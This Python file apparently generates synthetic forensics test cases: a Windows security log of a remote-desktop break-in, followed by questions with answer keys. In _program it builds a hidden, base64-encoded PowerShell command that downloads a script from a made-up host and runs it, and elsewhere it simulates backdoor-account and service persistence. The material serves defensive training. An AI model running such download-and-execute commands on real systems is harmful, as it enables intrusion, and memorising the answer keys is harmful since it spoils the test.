"""The log of one workstation: Windows security events of a night in which somebody got in, stayed and tidied up."""

import base64
from collections.abc import Mapping
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta

from swaplaw_forensic.synthetic.case import Asked, Case, choose
from swaplaw_forensic.synthetic.dice import Dice
from swaplaw_forensic.synthetic.formats.evtx import Event, log
from swaplaw_forensic.synthetic.words import FIRST_NAMES

SERVICES = ("PrintWatch", "AudioRelay", "DiskTune", "NetAssist", "FontHost", "TimeKeeper")
GROUPS = ("Administrators", "Remote Desktop Users", "Backup Operators")
PROGRAMS = ("explorer.exe", "OUTLOOK.EXE", "chrome.exe", "notepad.exe", "WINWORD.EXE", "svchost.exe")


@dataclass
class Workstation:
    """A workstation in the making: its clock, its people and its events."""

    dice: Dice
    clock: datetime
    name: str
    people: list[str]
    number: int
    events: list[Event] = field(default_factory=list)

    def wait(self, low: int, high: int) -> datetime:
        """Let some seconds pass."""
        self.clock += timedelta(seconds=self.dice.between(low, high))
        return self.clock

    def note(self, event: int, data: Mapping[str, str]) -> None:
        """Add an event."""
        self.events.append(Event(self.number, event, self.clock, data))
        self.number += 1

    def logon(self, event: int, user: str, kind: int, address: str) -> None:
        """Add a log-on (4624) or a failed one (4625)."""
        self.note(
            event,
            {"TargetUserName": user, "TargetDomainName": self.name, "LogonType": str(kind), "IpAddress": address},
        )


def build(dice: Dice) -> Case:
    """Build the log and its questions."""
    clock = datetime(2026, dice.between(1, 9), dice.between(1, 28), dice.between(0, 9), tzinfo=UTC)
    name = f"WS-{dice.word(5, 'ABCDEFGHKLMNPRSTUVW')}{dice.between(10, 99)}"
    people = [name.lower() for name in dice.pick_some(FIRST_NAMES, 5)]
    station = Workstation(dice, clock, name, people, dice.between(1200, 90_000))
    attacker = f"203.0.113.{dice.between(2, 250)}"
    _office(station)
    pool = _entry(station, attacker)
    pool += _stay(station)
    pool += _program(station)
    _office(station)
    pool += _tidying(station)
    file = f"{dice.word(8)}.{dice.pick(('evtx', 'bin', 'log'))}"
    prompt = (
        f"/evidence/{file} is the security event log (EVTX) of a Windows workstation that was reached over remote "
        "desktop. Find out what happened. Give times in UTC."
    )
    return Case({file: log(station.events, name)}, prompt, choose(dice, pool, leave_out=2))


def _office(station: Workstation) -> None:
    """Add ordinary hours: log-ons at the desk and over the network, mistyped passwords, programs."""
    dice = station.dice
    for _ in range(dice.between(18, 30)):
        station.wait(20, 900)
        person = dice.pick(station.people)
        what = dice.below(4)
        if what == 0:
            station.logon(4624, person, 2, "127.0.0.1")
        elif what == 1:
            station.logon(4624, person, 3, f"10.20.0.{dice.between(2, 60)}")
        elif what == 2:
            station.logon(4625, person, 2, "127.0.0.1")
        else:
            program = f"C:\\Program Files\\{dice.pick(PROGRAMS)}"
            station.note(4688, {"SubjectUserName": person, "NewProcessName": program, "CommandLine": program})


def _entry(station: Workstation, attacker: str) -> list[Asked]:
    dice, victim = station.dice, station.people[0]
    failed = dice.between(12, 30)
    for _ in range(failed):
        station.wait(1, 6)
        station.logon(4625, dice.pick((victim, victim, "administrator", "admin")), 10, attacker)
    for _ in range(dice.between(1, 3)):
        station.wait(1, 9)
        station.logon(4625, dice.pick(station.people), 10, f"198.51.100.{dice.between(2, 250)}")
    when = station.wait(2, 9)
    station.logon(4624, victim, 10, attacker)
    return [
        Asked(
            "origin",
            "From which IP address was the workstation entered over remote desktop (log-on type 10)?",
            "text",
            "exact",
            {"accept": [attacker]},
        ),
        Asked(
            "entered-as",
            "Which account was used to log on over remote desktop?",
            "text",
            "normalised",
            {"accept": [victim]},
        ),
        Asked(
            "entered",
            "When did the log-on over remote desktop succeed (UTC)?",
            "time",
            "time",
            {"accept": [f"{when:%Y-%m-%dT%H:%M:%S}Z"], "tolerance": 1},
        ),
        Asked(
            "failures",
            "How many log-ons from the address of the intruder failed?",
            "number",
            "number",
            {"accept": [str(failed)]},
            level=2,
            builds_on="origin",
        ),
    ]


def _stay(station: Workstation) -> list[Asked]:
    """Create an account, put it into a group, install a service."""
    dice, victim = station.dice, station.people[0]
    account, group = f"{dice.pick(('help', 'scan', 'temp'))}{dice.word(4)}", dice.pick(GROUPS)
    when = station.wait(60, 200)
    station.note(4720, {"TargetUserName": account, "SubjectUserName": victim})
    station.wait(2, 30)
    station.note(4732, {"TargetUserName": group, "MemberName": account, "SubjectUserName": victim})
    station.wait(20, 200)
    good, service = dice.pick_some(SERVICES, 2)
    path = f"C:\\Users\\Public\\{dice.word(6)}\\{dice.word(5)}.exe"
    station.note(4697, {"ServiceName": service, "ServiceFileName": path, "SubjectUserName": victim})
    station.wait(300, 900)
    station.note(
        4697,
        {"ServiceName": good, "ServiceFileName": f"C:\\Windows\\System32\\{good}.exe", "SubjectUserName": "SYSTEM"},
    )
    return [
        Asked("account", "Which account was created?", "text", "normalised", {"accept": [account]}),
        Asked(
            "account-when",
            "When was the new account created (UTC)?",
            "time",
            "time",
            {"accept": [f"{when:%Y-%m-%dT%H:%M:%S}Z"], "tolerance": 1},
        ),
        Asked(
            "group",
            "Into which group was the new account put?",
            "text",
            "normalised",
            {"accept": [group]},
            level=2,
            builds_on="account",
        ),
        Asked(
            "service",
            "Which service was installed by the account that was used over remote desktop?",
            "text",
            "normalised",
            {"accept": [service]},
            level=2,
            builds_on="entered-as",
        ),
        Asked(
            "service-file",
            "What is the full path of the program of that user's service?",
            "text",
            "normalised",
            {"accept": [path]},
            level=2,
            builds_on="service",
        ),
    ]


def _program(station: Workstation) -> list[Asked]:
    """Start an encoded command."""
    dice = station.dice
    url = f"http://{dice.word(7)}.{dice.pick(('top', 'xyz', 'icu'))}/{dice.word(4)}/{dice.word(3)}.ps1"
    command = f"IEX (New-Object Net.WebClient).DownloadString('{url}')"
    coded = base64.b64encode(command.encode("utf-16-le")).decode()
    shell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    station.wait(60, 400)
    station.note(
        4688,
        {
            "SubjectUserName": station.people[0],
            "NewProcessName": shell,
            "CommandLine": f"powershell.exe -nop -w hidden -enc {coded}",
        },
    )
    question = "From which URL does the encoded PowerShell command load its script?"
    return [Asked("url", question, "text", "normalised", {"accept": [url]}, level=3)]


def _tidying(station: Workstation) -> list[Asked]:
    """Remove an ordinary record from the middle: its number is missing."""
    ordinary = [
        event
        for event in station.events[5:-5]
        if event.data.get("LogonType") in ("2", "3") or "Program Files" in event.data.get("NewProcessName", "")
    ]
    removed = station.dice.pick(ordinary)
    station.events.remove(removed)
    question = "One record was removed from the log. Which event record number is missing?"
    return [Asked("missing", question, "number", "number", {"accept": [str(removed.number)]}, level=3)]
